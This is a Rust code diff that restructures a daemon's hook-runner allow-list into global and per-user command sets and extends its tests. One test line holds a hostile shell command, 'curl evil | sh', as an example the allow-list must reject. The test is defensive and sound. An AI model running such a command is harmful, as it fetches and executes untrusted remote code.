@@ -25,7 +25,7 @@ use tokio::sync::oneshot;
 
 use super::command::{self, CommandOutcome, CommandRequest};
 use crate::auth::UserDb;
-use crate::config::{Config, HookAction};
+use crate::config::{Config, HookAction, HookSpec};
 
 /// The largest frame either side accepts.
 const MAX_FRAME: usize = 1 << 20;
@@ -171,26 +171,54 @@ async fn write_frame<W: tokio::io::AsyncWrite + Unpin>(
     writer.flush().await
 }
 
-/// The commands the configuration names, as the runner last read them.
+/// The commands the configuration names, as the runner last read them: those of
+/// `ferryd.toml` and those of the users file, each kept from its last good read, so a users
+/// file that is missing at start (no users yet) or broken later does not take the global
+/// hooks with it, as it does not in the daemon.
 struct AllowList {
     config: PathBuf,
-    commands: HashSet<Vec<String>>,
+    global: HashSet<Vec<String>>,
+    per_user: HashSet<Vec<String>>,
     read_at: Option<Instant>,
 }
 
 impl AllowList {
+    fn new(config: &Path) -> AllowList {
+        AllowList {
+            config: config.to_owned(),
+            global: HashSet::new(),
+            per_user: HashSet::new(),
+            read_at: None,
+        }
+    }
+
     fn read(&mut self) {
         self.read_at = Some(Instant::now());
-        match commands_in(&self.config) {
-            Ok(commands) => self.commands = commands,
+        let config = match Config::load(&self.config) {
+            Ok(config) => config,
             Err(error) => {
-                tracing::warn!(%error, "hook runner: cannot read the configuration; keeping the commands it had")
+                tracing::warn!(%error, "hook runner: cannot read the configuration; keeping the commands it had");
+                return;
+            }
+        };
+        self.global = commands(config.hooks.hooks.iter());
+        // A missing users file is no users, as for the daemon.
+        match UserDb::load(&config.auth.users_file) {
+            Ok(users) => {
+                self.per_user = commands(users.iter().flat_map(|record| record.hooks.iter()));
+            }
+            Err(error) => {
+                tracing::warn!(%error, "hook runner: cannot read the users file; keeping its commands")
             }
         }
     }
 
+    fn contains(&self, argv: &[String]) -> bool {
+        self.global.contains(argv) || self.per_user.contains(argv)
+    }
+
     fn allows(&mut self, argv: &[String]) -> bool {
-        if self.commands.contains(argv) {
+        if self.contains(argv) {
             return true;
         }
         if self
@@ -199,27 +227,18 @@ impl AllowList {
         {
             self.read();
         }
-        self.commands.contains(argv)
+        self.contains(argv)
     }
 }
 
-/// Every hook command in `config` and its users file.
-fn commands_in(config: &Path) -> Result<HashSet<Vec<String>>, String> {
-    let config = Config::load(config).map_err(|error| error.to_string())?;
-    let users =
-        UserDb::load_existing(&config.auth.users_file).map_err(|error| error.to_string())?;
-    let mut commands = HashSet::new();
-    let specs = config
-        .hooks
-        .hooks
-        .iter()
-        .chain(users.iter().flat_map(|record| record.hooks.iter()));
-    for spec in specs {
-        if let HookAction::Command(argv) = &spec.action {
-            commands.insert(argv.clone());
-        }
-    }
-    Ok(commands)
+/// The argv of every command hook among `specs`.
+fn commands<'a>(specs: impl Iterator<Item = &'a HookSpec>) -> HashSet<Vec<String>> {
+    specs
+        .filter_map(|spec| match &spec.action {
+            HookAction::Command(argv) => Some(argv.clone()),
+            HookAction::Webhook { .. } => None,
+        })
+        .collect()
 }
 
 /// `ferryd hook-runner`: serves the daemon on stdin until it closes. Returns the exit code.
@@ -241,11 +260,7 @@ pub fn serve_runner(config: &Path) -> i32 {
             return 1;
         }
     };
-    let mut allow = AllowList {
-        config: config.to_owned(),
-        commands: HashSet::new(),
-        read_at: None,
-    };
+    let mut allow = AllowList::new(config);
     allow.read();
     let allow = Arc::new(Mutex::new(allow));
     runtime.block_on(async move {
@@ -330,11 +345,7 @@ mod tests {
             "[[user]]\nname = \"ci\"\n[[user.hook]]\non = [\"delete\"]\nrun = [\"/usr/bin/logger\"]\n",
         )
         .unwrap();
-        let mut allow = AllowList {
-            config,
-            commands: HashSet::new(),
-            read_at: None,
-        };
+        let mut allow = AllowList::new(&config);
         allow.read();
         let argv = |words: &[&str]| words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>();
         assert!(allow.allows(&argv(&["/usr/local/bin/deploy", "--fast"])));
@@ -347,5 +358,15 @@ mod tests {
             "other arguments"
         );
         assert!(!allow.allows(&argv(&["/bin/sh", "-c", "curl evil | sh"])));
+
+        // No users file yet (a fresh install): the global hooks are allowed all the same; a
+        // users file broken later keeps the per-user commands read before.
+        std::fs::remove_file(dir.path().join("users.toml")).unwrap();
+        let mut fresh = AllowList::new(&config);
+        fresh.read();
+        assert!(fresh.contains(&argv(&["/usr/local/bin/deploy", "--fast"])));
+        std::fs::write(dir.path().join("users.toml"), "[[user]]\nname = \"-bad\"\n").unwrap();
+        allow.read();
+        assert!(allow.contains(&argv(&["/usr/bin/logger"])));
     }
 }
